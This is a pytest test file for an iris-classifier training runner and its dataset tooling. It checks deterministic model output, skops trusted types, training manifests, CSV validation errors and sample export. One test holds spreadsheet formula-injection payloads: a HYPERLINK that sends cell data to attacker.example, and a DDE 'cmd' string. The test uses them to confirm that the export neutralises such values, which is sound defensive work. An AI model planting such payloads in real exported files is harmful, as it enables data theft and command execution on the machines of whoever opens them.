"""The training image's runner and datasets tooling, run in-process on the iris project (models/iris-classifier):
deterministic models and clear input errors."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import pickle
import re
import sys
from dataclasses import replace

import numpy as np
import pytest
import skops.io
from hypothesis import example, given, settings
from hypothesis import strategies as st

from mlops_spec.project import REPO_ROOT

sys.path.insert(0, str(REPO_ROOT / "images" / "training"))

from mlops_training import (
    datasets,  # noqa: E402
    runner,  # noqa: E402
)
from mlops_training.cli import main as cli_main  # noqa: E402
from mlops_training.project import load_project  # noqa: E402
from mlops_training.runner import TrainingError, TrainingRequest  # noqa: E402

IRIS = load_project(REPO_ROOT / "models" / "iris-classifier")
RULES = datasets.RowRules.of(IRIS)
FEATURE_NAMES = IRIS.header[:-1]


def train(request: TrainingRequest, output_dir, datasets_dir=datasets.DATASETS_DIR) -> runner.TrainingResult:
    return runner.train(IRIS, request, output_dir, datasets_dir)


def main(argv: list[str]) -> int:
    return cli_main(["--project", str(IRIS.directory), *argv])


def model_sha256(request: TrainingRequest, output_dir) -> str:
    result = train(request, output_dir)
    assert hashlib.sha256(result.model_path.read_bytes()).hexdigest() == result.model_sha256
    return result.model_sha256


def test_same_inputs_give_a_byte_identical_model(tmp_path):
    request = TrainingRequest(seed=7, subset=0.8, params={"n_estimators": 20})
    assert model_sha256(request, tmp_path / "first") == model_sha256(request, tmp_path / "second")
    for file in ("model.pkl", "model.skops"):
        assert (tmp_path / "first" / file).read_bytes() == (tmp_path / "second" / file).read_bytes(), file


def test_the_skops_form_is_byte_identical_where_skops_alone_writes_different_bytes(tmp_path):
    first, second = (train(TrainingRequest(seed=7), tmp_path / run) for run in ("first", "second"))
    models = [pickle.loads(result.model_path.read_bytes()) for result in (first, second)]
    # Both alive at once, so no array of one shares an id() with the other's, which skops names its files after.
    assert skops.io.dumps(models[0]) != skops.io.dumps(models[1])
    skops_file = first.model_path.with_name("model.skops")
    assert skops_file.read_bytes() == second.model_path.with_name("model.skops").read_bytes()
    assert first.manifest["outputs"]["skops"] == {"sha256": hashlib.sha256(skops_file.read_bytes()).hexdigest(),
                                                  "trusted_types": ["sklearn.tree._tree.Tree"]}
    assert first.files == [first.model_path, skops_file, first.manifest_path]


def test_the_skops_form_loads_trusting_only_the_declared_types_and_predicts_as_the_pickle(tmp_path):
    result = train(TrainingRequest(seed=7), tmp_path)
    data = result.model_path.with_name("model.skops").read_bytes()
    with pytest.raises(skops.io.exceptions.UntrustedTypesFoundException, match="sklearn.tree._tree.Tree"):
        skops.io.loads(data)
    loaded = skops.io.loads(data, trusted=result.manifest["outputs"]["skops"]["trusted_types"])
    features = np.loadtxt(IRIS.default_data, delimiter=",", skiprows=1)[:, :-1]
    pickled = pickle.loads(result.model_path.read_bytes())
    assert np.array_equal(loaded.predict_proba(features), pickled.predict_proba(features))


@pytest.mark.parametrize(("trusted_types", "message"), [
    ((), "model.skops: the model holds types skops does not trust by default: sklearn.tree._tree.Tree; list the ones "
         "you reviewed under skops.trusted_types in mlops-model.yaml"),
    (("sklearn.tree._tree.Tree", "sklearn.pipeline.Pipeline"),
     "model.skops: skops.trusted_types in mlops-model.yaml lists sklearn.pipeline.Pipeline, which the model does not "
     "hold or skops trusts already: remove it"),
], ids=["type not declared", "type declared but not held"])
def test_a_skops_project_whose_trusted_types_are_not_exactly_the_models_registers_nothing(tmp_path, trusted_types,
                                                                                         message):
    with pytest.raises(TrainingError, match=re.escape(message)) as refused:
        runner.train(replace(IRIS, skops_trusted_types=trusted_types), TrainingRequest(), tmp_path)
    assert "nothing was registered" in str(refused.value) and "\n" not in str(refused.value)
    assert not (tmp_path / "manifest.json").exists() and not (tmp_path / "model.skops").exists()


class PredictsZero:
    def predict(self, rows):
        return np.zeros(len(rows), dtype=int)


def test_a_skops_form_that_predicts_otherwise_than_the_pickle_registers_nothing(tmp_path, monkeypatch):
    monkeypatch.setattr(skops.io, "loads", lambda data, trusted: PredictsZero())
    with pytest.raises(TrainingError, match="model.skops: the model loaded from skops predicts differently from the "
                                            "pickled one on the training rows"):
        train(TrainingRequest(), tmp_path)
    assert not (tmp_path / "manifest.json").exists() and not (tmp_path / "model.skops").exists()


def test_a_project_without_skops_gets_no_skops_form(tmp_path):
    result = runner.train(replace(IRIS, skops_trusted_types=None), TrainingRequest(), tmp_path)
    assert "skops" not in result.manifest["outputs"] and not (tmp_path / "model.skops").exists()
    assert result.files == [result.model_path, result.manifest_path]


@pytest.mark.parametrize("changed", [{"seed": 8}, {"params": {"n_estimators": 21}}, {"subset": 0.7}],
                         ids=["seed", "param", "subset"])
def test_a_different_input_gives_a_different_model(tmp_path, changed):
    baseline = {"seed": 7, "subset": 0.8, "params": {"n_estimators": 20}}
    assert (model_sha256(TrainingRequest(**baseline), tmp_path / "baseline")
            != model_sha256(TrainingRequest(**{**baseline, **changed}), tmp_path / "changed"))


def test_subset_is_passed_to_the_entrypoint_and_recorded(tmp_path):
    manifest = train(TrainingRequest(subset=0.5), tmp_path).manifest
    inputs = manifest["inputs"]
    assert inputs["rows"] == 150 and inputs["subset"] == 0.5
    assert manifest["outputs"]["model_sha256"] != train(TrainingRequest(), tmp_path / "whole").model_sha256
    assert 0 < manifest["outputs"]["metrics"]["accuracy"] <= 1


def test_manifest_records_inputs_environment_and_outputs(tmp_path, monkeypatch):
    lock = REPO_ROOT / "images" / "training" / "requirements.lock"
    monkeypatch.setenv("TRAINING_LOCK_FILE", str(lock))
    monkeypatch.setenv("TRAINING_IMAGE_DIGEST", "sha256:" + "a" * 64)
    result = train(TrainingRequest(seed=3, params={"max_depth": 3}), tmp_path / "out")
    manifest = json.loads(result.manifest_path.read_text())
    assert manifest == result.manifest
    assert manifest["inputs"]["params"] == {"max_depth": 3}
    assert manifest["inputs"]["seed"] == 3
    assert len(manifest["inputs"]["data_sha256"]) == len(manifest["inputs"]["code_version"]) == 64
    assert manifest["environment"] == {
        "image_digest": "sha256:" + "a" * 64, "platform_lock_sha256": hashlib.sha256(lock.read_bytes()).hexdigest(),
        "lock_sha256": hashlib.sha256((IRIS.directory / "requirements.lock").read_bytes()).hexdigest()}
    assert set(manifest["outputs"]["metrics"]) == {"accuracy", "f1_macro"}
    assert (manifest["task"], manifest["schema"], manifest["model_name"]) == ("classification", IRIS.schema,
                                                                              "iris-classifier")


def test_an_entrypoint_that_fails_is_a_training_error_and_writes_no_manifest(tmp_path, capfd):
    with pytest.raises(TrainingError, match=r"iris_model.train exited with code 2; nothing was registered"):
        train(TrainingRequest(params={"n_trees": 5}), tmp_path)
    assert "unknown parameter(s) n_trees" in capfd.readouterr().err
    assert not (tmp_path / "manifest.json").exists()


def test_seed_outside_numpy_range_is_rejected():
    with pytest.raises(TrainingError, match=r"--seed must be in \[0, 2\*\*32\), got -1"):
        TrainingRequest(seed=-1)


@pytest.mark.parametrize("subset", [0, -0.5, 1.5])
def test_subset_outside_the_unit_interval_is_rejected(subset):
    with pytest.raises(TrainingError, match=r"--subset must be a fraction in \(0, 1\]"):
        TrainingRequest(subset=subset)


def test_command_line_prints_one_error_line_and_exits_2(tmp_path, capsys):
    # The entrypoint's own line goes to the process's stderr (capfd), the runner's one line to sys.stderr.
    assert main(["--output-dir", str(tmp_path), "--param", "n_trees=5"]) == 2
    captured = capsys.readouterr()
    assert captured.err.count("\n") == 1 and captured.err.startswith("error: iris_model.train exited with code 2")


def test_command_line_ends_with_a_machine_readable_line(tmp_path, capsys):
    assert main(["--output-dir", str(tmp_path), "--subset", "0.5", "--param", "n_estimators=10"]) == 0
    last = capsys.readouterr().out.splitlines()[-1]
    sha256 = hashlib.sha256((tmp_path / "model.pkl").read_bytes()).hexdigest()
    assert last == f"TRAINED sha256={sha256} output_dir={tmp_path}"


HEADER = ",".join(IRIS.header)


def iris_csv(prediction: bool = False) -> bytes:
    """The built-in iris data as a dataset file (as `mlops data samples` exports it, labelled, with `prediction`)."""
    from sklearn.datasets import load_iris

    iris = load_iris()
    header = [*FEATURE_NAMES, *(["prediction"] if prediction else []), "label"]
    rows = [[*map(repr, map(float, features)), *([str(label)] if prediction else []), str(label)]
            for features, label in zip(iris.data, iris.target)]
    return "\n".join(",".join(row) for row in [header, *rows]).encode() + b"\n"


def test_a_dataset_is_stored_canonically_under_its_sha256_and_listed(tmp_path):
    name, rows, new = datasets.add(iris_csv(prediction=True), RULES, tmp_path)
    assert (rows, new) == (150, True)
    stored = tmp_path / name
    assert name == hashlib.sha256(stored.read_bytes()).hexdigest() + ".csv"
    assert stored.read_bytes() == iris_csv(), "the prediction column is dropped"
    assert datasets.add(iris_csv(), RULES, tmp_path) == (name, 150, False), "the same data is the same dataset"
    assert [path.name for path in tmp_path.iterdir()] == [name], "no temporary file is left"
    [listed] = datasets.listing(tmp_path)
    assert (listed["name"], listed["sha256"], listed["rows"]) == (name, name[:-4], 150)


def test_training_on_a_dataset_names_it_profiles_it_and_stays_deterministic(tmp_path):
    volume = tmp_path / "datasets"
    volume.mkdir()
    folder = datasets.model_folder(IRIS, volume)
    rows = iris_csv().splitlines()
    older, _, _ = datasets.add(b"\n".join(rows[:1] + rows[1:150:2]) + b"\n", RULES, folder)  # every other iris row
    newest, _, _ = datasets.add(b"\n".join(rows[:1] + rows[2:151:2]) + b"\n", RULES, folder)
    os.utime(folder / older, (1, 1))  # added long before
    first = train(TrainingRequest(seed=2, dataset="latest"), tmp_path / "first", volume)
    inputs = first.manifest["inputs"]
    assert (inputs["dataset"], inputs["dataset_sha256"]) == (newest, newest[:-4])
    assert first.manifest["reference_profile"]["rows"] == inputs["rows"] == 75
    again = train(TrainingRequest(seed=2, dataset=newest[:12]), tmp_path / "again", volume)
    assert again.model_sha256 == first.model_sha256 and again.manifest["inputs"]["dataset"] == newest
    other = train(TrainingRequest(seed=2, dataset=older), tmp_path / "other", volume)
    assert other.model_sha256 != first.model_sha256
    assert other.manifest["reference_profile"] != first.manifest["reference_profile"]
    built_in = train(TrainingRequest(seed=2), tmp_path / "built-in").manifest["inputs"]
    assert built_in["dataset"] == "data/iris.csv" and "dataset_sha256" not in built_in


def test_a_run_trains_on_its_own_models_folder_only(tmp_path):
    """Another model's dataset, even one that fits the schema, is not there for this model's run to name."""
    other, _, _ = datasets.add(iris_csv(), RULES, tmp_path / "diabetes-regressor")
    with pytest.raises(TrainingError, match="no dataset of iris-classifier on the datasets volume yet"):
        train(TrainingRequest(dataset="latest"), tmp_path / "out", tmp_path)
    with pytest.raises(TrainingError, match=f"--data '{other[:12]}' names no dataset on the datasets volume"):
        train(TrainingRequest(dataset=other[:12]), tmp_path / "out", tmp_path)
    assert datasets.listing(datasets.model_folder(IRIS, tmp_path)) == []


def test_a_changed_or_missing_dataset_is_a_training_error(tmp_path):
    with pytest.raises(TrainingError, match="no dataset of iris-classifier on the datasets volume yet"):
        train(TrainingRequest(dataset="latest"), tmp_path / "out", tmp_path)
    folder = datasets.model_folder(IRIS, tmp_path)
    name, _, _ = datasets.add(iris_csv(), RULES, folder)
    with pytest.raises(TrainingError, match="--data 'abcdef0123' names no dataset on the datasets volume"):
        train(TrainingRequest(dataset="abcdef0123"), tmp_path / "out", tmp_path)
    (folder / name).write_bytes(iris_csv().replace(b",0\n", b",1\n", 1))
    with pytest.raises(TrainingError, match=f"dataset {name} holds bytes of sha256 [0-9a-f]{{64}}: it was changed"):
        train(TrainingRequest(dataset="latest"), tmp_path / "out", tmp_path)


@pytest.mark.parametrize(("payload", "message"), [
    (b"", f"is empty; the first line must be the header {HEADER}"),
    (b"a,b\n1,2\n", f"the header must be {HEADER} (a 'prediction' column is allowed and dropped), got a,b"),
    (f"{HEADER}\n".encode(), "has a header but no rows"),
    (f"{HEADER}\n5.1,3.5,1.4,0.2,0\n5.1,x,1.4,0.2,0\n".encode(),
     "row 2 (line 3), column 'sepal width (cm)': 'x' is not a finite number"),
    (f"{HEADER}\n5.1,3.5,1.4,inf,0\n".encode(), "row 1 (line 2), column 'petal width (cm)': 'inf' is not a finite number"),
    (f"{HEADER}\n5.1,3.5,1.4,nan,0\n".encode(), "row 1 (line 2), column 'petal width (cm)': 'nan' is not a finite number"),
    (f"{HEADER}\n5.1,3.5,1.4,0.2,0\n\n5.1,3.5,1.4,0.2,\n".encode(),
     "row 2 (line 4) has no label; label every row (or delete it) first"),
    (f"{HEADER}\n5.1,3.5,1.4,0.2,3\n".encode(), "row 1 (line 2): label '3' is not a known class (0, 1, 2)"),
    (f"{HEADER}\n5.1,3.5,1.4,0\n".encode(), "row 1 (line 2) has 4 values, the header 5"),
    (b"\xff\xfe", "is not UTF-8 text (byte 0)"),
    (b"x" * (datasets.MAX_BYTES + 1), "is more than 16 MiB, the most a dataset may be"),
], ids=["empty", "header", "no rows", "text", "infinite", "nan", "no label", "unknown class", "short row", "binary",
        "too large"])
def test_a_bad_dataset_is_one_line_exit_2_and_nothing_written(payload, message, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(datasets, "DATASETS_DIR", tmp_path)
    monkeypatch.setenv("MODEL_PROJECT_DIR", str(IRIS.directory))
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(payload)))
    assert datasets.main(["add"]) == 2
    captured = capsys.readouterr()
    assert (captured.out, captured.err) == ("", f"error: {message}\n")
    assert list(tmp_path.iterdir()) == []


def test_the_add_command_stores_in_the_images_models_folder(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(datasets, "DATASETS_DIR", tmp_path)
    monkeypatch.setenv("MODEL_PROJECT_DIR", str(IRIS.directory))
    monkeypatch.setenv("MODEL_NAME", "iris-classifier")
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(iris_csv())))
    assert datasets.main(["add"]) == 0
    [stored] = (tmp_path / "iris-classifier").iterdir()
    assert capsys.readouterr().out == f"ADDED name={stored.name} rows=150\n"
    assert [path.name for path in tmp_path.iterdir()] == ["iris-classifier"]


def test_samples_export_as_csv_with_the_prediction_and_an_empty_label(tmp_path):
    (tmp_path / "s-iris-classifier-blue-0.jsonl").write_text(
        json.dumps({"time": 1.0, "model": "m", "version": "2", "features": [5.1, 3.5, 1.4, 0.2], "prediction": 0}) + "\n"
        + json.dumps({"time": 2.0, "model": "m", "version": "2", "features": [6.7, 3.0, 5.2, 2.3], "prediction": 2})
        + "\n" + '{"time": 3.0, "mod')  # a line being written: left for the next export
    out = io.StringIO()
    assert datasets.export_samples(out, IRIS, ["s-iris-classifier-blue"], tmp_path) == datasets.SamplesExport(
        written=2, skipped=0, first_skipped="")
    header = ",".join(f'"{column}"' for column in [*FEATURE_NAMES, "prediction", "label"])
    assert out.getvalue() == f'{header}\n"5.1","3.5","1.4","0.2","0",""\n"6.7","3.0","5.2","2.3","2",""\n'


def test_a_prediction_a_spreadsheet_would_run_as_a_formula_is_exported_as_text_and_bad_lines_are_skipped(tmp_path):
    """A model may predict any string, and anything on the samples volume may have written a line: what is
    exported must neither run in the spreadsheet it is labelled in nor stop the export."""
    predictions = ['=HYPERLINK("http://attacker.example/?"&A1,"label me")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                   "\tx", "\rx", 'a "quoted", comma', -1.5, 2]
    lines = [json.dumps({"features": [5.1, 3.5, 1.4, 0.2], "prediction": prediction}) for prediction in predictions]
    bad = ["not json", json.dumps({"features": [1.0]}), json.dumps({"features": ["=1+1", 0, 0, 0], "prediction": 0}),
           json.dumps({"features": [1, 2, 3], "prediction": 0}), json.dumps({"features": [1e999, 2, 3, 4], "prediction": 0})]
    (tmp_path / "a-0.jsonl").write_text("\n".join([lines[0], *bad, *lines[1:]]) + "\n")
    out = io.StringIO()
    export = datasets.export_samples(out, IRIS, ["a"], tmp_path)
    assert (export.written, export.skipped) == (len(predictions), len(bad))
    assert export.first_skipped.startswith("a-0.jsonl:2: JSONDecodeError")
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [row[4] for row in rows[1:]] == [f"'{prediction}" for prediction in predictions[:6]] + [
        'a "quoted", comma', "-1.5", "2"]
    every_cell_quoted = io.StringIO()
    csv.writer(every_cell_quoted, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    assert out.getvalue() == every_cell_quoted.getvalue()
    # The export, labelled, is a dataset again: the prediction column is dropped.
    labelled = out.getvalue().replace(',""\n', ',"0"\n')
    assert datasets.canonical_dataset(labelled.encode(), RULES)[1] == len(predictions)


def test_the_samples_command_says_how_many_lines_it_skipped(tmp_path, monkeypatch, capsys):
    (tmp_path / "s-iris-classifier-green-1.jsonl").write_text('{"features": [1, 2, 3, 4], "prediction": 0}\nnot json\n')
    monkeypatch.setattr(datasets, "SAMPLES_DIR", tmp_path)
    monkeypatch.setenv("MODEL_PROJECT_DIR", str(IRIS.directory))
    assert datasets.main(["samples", "s-iris-classifier-blue", "s-iris-classifier-green"]) == 0
    captured = capsys.readouterr()
    assert captured.out.count("\n") == 2
    assert captured.err == ("skipped 1 unreadable lines (first: s-iris-classifier-green-1.jsonl:2: JSONDecodeError: "
                            "Expecting value: line 1 column 1 (char 0))\n")
    assert datasets.main(["samples"]) == 2, "the pools to export are named"


def test_samples_are_exported_from_the_named_pools_replicas_only(tmp_path):
    """`s-iris` is no prefix of another model's pool: `s-iris-v2-blue-0` belongs to model iris-v2."""
    for name in ("s-iris-blue-0", "s-iris-blue-12", "s-iris-green-0", "s-iris-v2-blue-0", "s-iris-blue-x", "s-iris-blue"):
        (tmp_path / f"{name}.jsonl").write_text("")
    assert [file.name for file in datasets.replica_files(tmp_path, ["s-iris-blue", "s-iris-green"])] == [
        "s-iris-blue-0.jsonl", "s-iris-blue-12.jsonl", "s-iris-green-0.jsonl"]


TOKENS = st.one_of(st.sampled_from(["0", "1", "2", "5.1", "-0.5e3", ".5", "1_0", "nan", "inf", "1e999", "", " 3 ",
                                    "٣", "\x00", '"', "a,b", "0x10", "1.", "+2"]), st.text(max_size=6))


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(TOKENS, min_size=3, max_size=6), max_size=6), st.booleans())
# Quoted cells with a line break, in a feature and in the label: the error quotes them on its one line.
@example([["0", "0", "0", "0\n0", "0"]], False)
@example([["0", "0", "0", "0", "0\n0"]], False)
def test_any_file_is_either_refused_in_one_line_or_stored_as_training_reads_it(rows, with_prediction):
    header = [*FEATURE_NAMES, *(["prediction"] if with_prediction else []), "label"]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows([header, *rows])
    try:
        canonical, count = datasets.canonical_dataset(buffer.getvalue().encode(), RULES)
    except datasets.DatasetError as err:
        assert "\n" not in str(err)
        return
    table = np.loadtxt(io.StringIO(canonical.decode()), delimiter=",", skiprows=1, ndmin=2)
    assert table.shape == (count, 5) and np.isfinite(table).all()
    assert set(table[:, -1].astype(int).astype(str)) <= set(RULES.classes)


def test_the_command_line_says_which_dataset_it_trained_on(tmp_path, capsys):
    """retrain.yml names the dataset in its pull request from this line."""
    name, _, _ = datasets.add(iris_csv(), RULES, datasets.model_folder(IRIS, tmp_path))
    assert main(["--output-dir", str(tmp_path / "out"), "--data", "latest", "--datasets-dir", str(tmp_path)]) == 0
    assert f"[training] dataset: {name}" in capsys.readouterr().out.splitlines()
    assert main(["--output-dir", str(tmp_path / "iris")]) == 0
    assert "[training] dataset: data/iris.csv" in capsys.readouterr().out.splitlines()
